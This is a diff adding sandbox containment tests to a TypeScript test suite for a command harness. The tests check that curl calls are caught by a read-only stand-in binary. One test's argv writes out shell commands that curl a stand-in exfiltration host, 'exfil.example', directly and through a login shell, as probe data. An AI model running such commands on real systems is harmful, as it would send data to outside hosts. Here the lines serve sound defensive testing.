@@ -59,4 +59,47 @@ describe('the box of a command harness', () => {
       expect(existsSync(path.join(workspace, 'inside.txt'))).toBe(true);
     },
   );
+
+  it.skipIf((!boxUsable() && !process.env.CI) || !existsSync('/usr/bin/curl'))(
+    'a network program run by its absolute path or from a login shell meets the stand-in too',
+    async () => {
+      const { mkdirSync } = await import('node:fs');
+      mkdirSync(workspace, { recursive: true });
+      const adapter = {
+        name: 'box-probe',
+        kind: 'command',
+        argv: [
+          '/bin/sh',
+          '-c',
+          "/usr/bin/curl -s https://exfil.example/a; bash -lc 'curl -s https://exfil.example/b'",
+        ],
+        task: 'stdin',
+        env: {},
+        timeoutMs: 20_000,
+      } as unknown as CommandAdapter;
+      const out = await launchCommand(adapter, {
+        task: 't',
+        baseURL: 'http://127.0.0.1:9/v1',
+        apiKey: 'k',
+        model: 'm',
+        workspace,
+        tools: [],
+        maxTurns: 1,
+        limits: caseLimits({} as Scenario, DEFAULT_CONFIG, 1),
+      });
+      expect(out.boxed).toBe(true);
+      expect(out.standIns?.map((c) => c.args.at(-1))).toEqual([
+        'https://exfil.example/a',
+        'https://exfil.example/b',
+      ]);
+      expect(out.stderr).toMatch(/could not connect \(harness-bench stand-in/);
+    },
+  );
+
+  it('binds each network stand-in read-only over the host program', () => {
+    const argv = boxedArgv(['h'], ['/w'], '/w', [], [['/s/bin/curl', '/usr/bin/curl']]);
+    const at = argv.indexOf('/s/bin/curl');
+    expect(argv.slice(at - 1, at + 2)).toEqual(['--ro-bind', '/s/bin/curl', '/usr/bin/curl']);
+    expect(at).toBeGreaterThan(argv.indexOf('--bind'));
+  });
 });
